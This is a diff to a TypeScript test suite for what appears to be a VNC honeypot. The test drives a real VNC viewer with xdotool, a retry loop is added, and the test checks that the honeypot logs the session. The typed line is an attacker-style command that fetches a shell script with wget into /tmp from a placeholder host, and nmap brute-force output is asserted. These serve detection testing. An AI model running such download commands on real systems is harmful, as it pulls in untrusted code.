@@ -93,15 +93,19 @@ describe('VNC, with real clients', () => {
           await sleep(200)
         }
         const x = (...args: string[]) => spawnSync('xdotool', args, { env: { ...process.env, DISPLAY: display } })
-        const found = spawnSync('xdotool', ['search', '--name', 'TigerVNC'], {
-          env: { ...process.env, DISPLAY: display },
-        })
-        x('windowfocus', String(found.stdout).trim().split('\n')[0]!)
-        // The middle of the remote screen is in its terminal.
-        x('mousemove', '512', '400')
-        await sleep(500)
         const url = `http://192.0.2.66/${security}.sh`
-        x('type', '--delay', '30', `cd /tmp; wget ${url}\n`)
+        // Without a window manager a viewer may miss that the keys are its own: somebody at the screen would try again.
+        for (let tries = 0; tries < 5 && skep.events(fetched(url)).length === 0; tries++) {
+          for (const id of String(x('search', '--name', 'TigerVNC').stdout)
+            .trim()
+            .split('\n'))
+            x('windowfocus', id)
+          // The middle of the remote screen is in its terminal.
+          x('mousemove', String(512 + tries), '400')
+          await sleep(500)
+          x('type', '--delay', '30', `cd /tmp; wget ${url}\n`)
+          for (let left = 15; left > 0 && skep.events(fetched(url)).length === 0; left--) await sleep(200)
+        }
         await skep.eventually(fetched(url))
         await skep.eventually(commandLine(`cd /tmp; wget ${url}`))
       } finally {
@@ -174,5 +178,6 @@ describe('VNC, with real clients', () => {
     assert.match(out, /VNC auth, Anonymous TLS \(258\)/)
     assert.match(out, /vnc-brute: \n\| +Accounts: \n\| +secret - Valid credentials/)
     assert.doesNotMatch(out, /realvnc-auth-bypass:|honey|skep/i)
+    await skep.eventually(ofAction('exploit'))
   })
 })
